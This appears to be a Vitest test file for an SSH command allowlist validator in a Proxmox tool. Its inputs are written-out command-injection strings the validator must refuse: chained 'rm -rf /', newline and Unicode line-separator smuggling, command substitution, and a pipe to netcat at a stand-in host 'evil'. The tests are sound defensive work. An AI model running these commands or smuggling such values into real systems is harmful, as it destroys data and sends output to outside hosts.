import { describe, expect, it } from "vitest";
import { compileAllowlist, isCommandAllowed, MAX_COMMAND_LENGTH } from "../../src/config/ssh-allowlist.js";

describe("compileAllowlist + isCommandAllowed", () => {
  const list = compileAllowlist(["uptime", "pveversion( -v)?"]);

  it("accepts exactly the listed commands", () => {
    expect(isCommandAllowed("uptime", list)).toBe(true);
    expect(isCommandAllowed("pveversion", list)).toBe(true);
    expect(isCommandAllowed("pveversion -v", list)).toBe(true);
  });

  it.each([
    ["a chained command", "uptime; rm -rf /"],
    ["a second line", "uptime\nid"],
    ["a second line after CR", "uptime\rid"],
    ["a second line after CRLF", "uptime\r\nid"],
    ["a trailing newline", "uptime\n"],
    ["a leading newline", "\nuptime"],
    ["U+2028 line separator", "uptime\u2028id"],
    ["a longer word", "uptimex"],
    ["a prefix", "xuptime"],
    ["a trailing space", "uptime "],
    ["an && chain", "uptime && id"],
    ["a pipe", "uptime | nc evil 1"],
    ["command substitution", "uptime $(id)"],
    ["backticks", "uptime `id`"],
    ["a background job", "uptime & id"],
    ["a NUL byte", "uptime\0"],
    ["an optional group twice", "pveversion -v -v"],
    ["the empty command", ""],
    ["another case", "UPTIME"],
  ])("refuses %s", (_label, command) => {
    expect(isCommandAllowed(command, list)).toBe(false);
  });

  it("keeps `.` and `$` from matching line breaks", () => {
    const dotted = compileAllowlist(["qm list.*", "cat /etc/pve/.*\\.conf"]);
    expect(isCommandAllowed("qm list --full", dotted)).toBe(true);
    expect(isCommandAllowed("qm list\nrm -rf /", dotted)).toBe(false);
    expect(isCommandAllowed("cat /etc/pve/qemu-server/100.conf", dotted)).toBe(true);
    expect(isCommandAllowed("cat /etc/pve/x.conf\nid", dotted)).toBe(false);
    expect(isCommandAllowed("cat /etc/pve/x\n.conf", dotted)).toBe(false);
  });

  it("anchors every alternative of a pattern, not only the first and last", () => {
    const alternatives = compileAllowlist(["uptime|df -h"]);
    expect(isCommandAllowed("df -h", alternatives)).toBe(true);
    expect(isCommandAllowed("uptime; id", alternatives)).toBe(false);
    expect(isCommandAllowed("id; df -h", alternatives)).toBe(false);
  });

  it("allows everything when no allow-list is configured", () => {
    expect(isCommandAllowed("rm -rf /", [])).toBe(true);
    expect(compileAllowlist([])).toEqual([]);
  });

  it("compiles with no flags and anchors each pattern", () => {
    const [regex] = compileAllowlist(["uptime"]);
    expect(regex?.flags).toBe("");
    expect(regex?.source).toBe("^(?:uptime)$");
  });

  it("refuses over-long commands and NUL bytes even when a pattern would match them", () => {
    const anything = compileAllowlist(["[a-z ]*", "[^x]*"]);
    expect(isCommandAllowed("a".repeat(MAX_COMMAND_LENGTH), anything)).toBe(true);
    expect(isCommandAllowed("a".repeat(MAX_COMMAND_LENGTH + 1), anything)).toBe(false);
    expect(isCommandAllowed("uptime\0id", anything)).toBe(false);
  });

  it("holds a RegExp built elsewhere to a whole-command match, whatever its flags", () => {
    expect(isCommandAllowed("uptime; id", [/uptime/])).toBe(false);
    expect(isCommandAllowed("uptime", [/uptime/])).toBe(true);
    expect(isCommandAllowed("id\nuptime", [/^uptime$/m])).toBe(false);
    const sticky = /uptime/gy;
    expect(isCommandAllowed("uptime", [sticky])).toBe(true);
    // Stateless: a global regex's lastIndex does not make the next check fail or pass.
    expect(isCommandAllowed("uptime", [sticky])).toBe(true);
    expect(sticky.lastIndex).toBe(0);
  });

  describe("bad patterns", () => {
    it("names the position, the pattern and the reason", () => {
      expect(() => compileAllowlist(["uptime", "pveversion( -v"])).toThrow(
        /PROXMOX_SSH_COMMAND_ALLOWLIST: pattern 2 of 2 is not a valid regular expression \(Unterminated group\): "pveversion\( -v"/,
      );
      expect(() => compileAllowlist(["[a-"])).toThrow(/pattern 1 of 1 .*"\[a-"/);
      expect(() => compileAllowlist(["*"])).toThrow(/pattern 1 of 1 is not a valid regular expression/);
    });

    it("refuses a pattern that would escape its group and the anchors", () => {
      // As ^(?:uptime)|(.*)$ this would allow "uptime; anything"; on its own it does not compile.
      expect(() => compileAllowlist(["uptime)|(.*"])).toThrow(
        /pattern 1 of 1 is not a valid regular expression/,
      );
      expect(() => compileAllowlist(["uptime)|((?:"])).toThrow(/not a valid regular expression/);
      expect(() => compileAllowlist(["uptime\\"])).toThrow(/not a valid regular expression/);
    });

    it("refuses an empty pattern", () => {
      expect(() => compileAllowlist(["uptime", ""])).toThrow(/pattern 2 of 2 is empty/);
    });
  });
});
